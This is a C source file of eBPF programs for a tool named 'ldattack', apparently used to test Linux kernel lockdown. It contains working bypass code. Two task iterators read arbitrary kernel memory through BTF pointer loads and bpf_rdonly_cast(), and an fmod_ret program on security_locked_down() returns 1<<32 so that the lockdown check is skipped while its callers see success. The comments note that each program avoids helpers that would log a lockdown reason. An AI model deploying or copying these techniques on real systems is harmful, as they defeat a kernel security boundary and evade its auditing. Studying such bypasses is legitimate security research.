// SPDX-License-Identifier: GPL-2.0
/*
 * The BPF programs of ldattack's attacks that need the kernel's BTF
 * (attack_bpf.c), each loaded on its own. None asks a reason:
 *   btf_read  BTF pointer loads from a task to init_uts_ns's sysname
 *             (bpf-btf-read)
 *   btf_cast  bpf_rdonly_cast() of linux_banner's address (6.2 on)
 *   fmod_ret_high  fmod_ret on security_locked_down() returning 1 << 32:
 *             non-zero to the trampoline, which skips the function, and 0
 *             to every caller, which reads the low 32 bits (bpf-fmod-ret)
 * Kernel types are declared with what the programs touch, relocated
 * against the kernel's BTF (CO-RE); no BPF_CORE_READ(), which would be a
 * bpf_probe_read_kernel() and ask its reason.
 */
#include <linux/bpf.h>
#include <bpf/bpf_helpers.h>
#include <bpf/bpf_core_read.h>

char LICENSE[] SEC("license") = "GPL";

#define CORE __attribute__((preserve_access_index))

struct new_utsname {
	char sysname[65];
} CORE;

struct uts_namespace {
	struct new_utsname name;
} CORE;

struct nsproxy {
	struct uts_namespace *uts_ns;
} CORE;

struct task_struct {
	int pid;
	struct nsproxy *nsproxy;
} CORE;

struct bpf_iter_meta {
	void *seq;
} CORE;

struct bpf_iter__task {
	struct bpf_iter_meta *meta;
	struct task_struct *task;
} CORE;

extern void *bpf_rdonly_cast(const void *obj, __u32 btf_id) __ksym __weak;

/* set by ldattack before load (.rodata): linux_banner */
const volatile __u64 target_addr;

/* what the programs found (.bss, read by ldattack) */
char out[64];
__u64 hits;

SEC("iter/task")
int btf_read(struct bpf_iter__task *ctx)
{
	struct task_struct *t = ctx->task;

	if (!t || hits)
		return 0;
	for (int i = 0; i < 8; i++)
		out[i] = t->nsproxy->uts_ns->name.sysname[i];
	hits = 1;
	return 0;
}

SEC("iter/task")
int btf_cast(struct bpf_iter__task *ctx)
{
	struct new_utsname *u;

	if (!ctx->task || hits)
		return 0;
	/* linux_banner as a struct with a char array: any address, read */
	u = bpf_rdonly_cast((void *)target_addr, bpf_core_type_id_kernel(struct new_utsname));
	for (int i = 0; i < 32; i++)
		out[i] = u->sysname[i];
	hits = 1;
	return 0;
}

/*
 * 1 << 32 from a program on a function that returns int: the compiler
 * puts the 64-bit constant in R0 as it is. (Not a naked function: its
 * argument would have no name, and the kernel refuses such BTF.)
 */
SEC("fmod_ret/security_locked_down")
long long fmod_ret_high(unsigned long long *ctx)
{
	return 1ULL << 32;
}
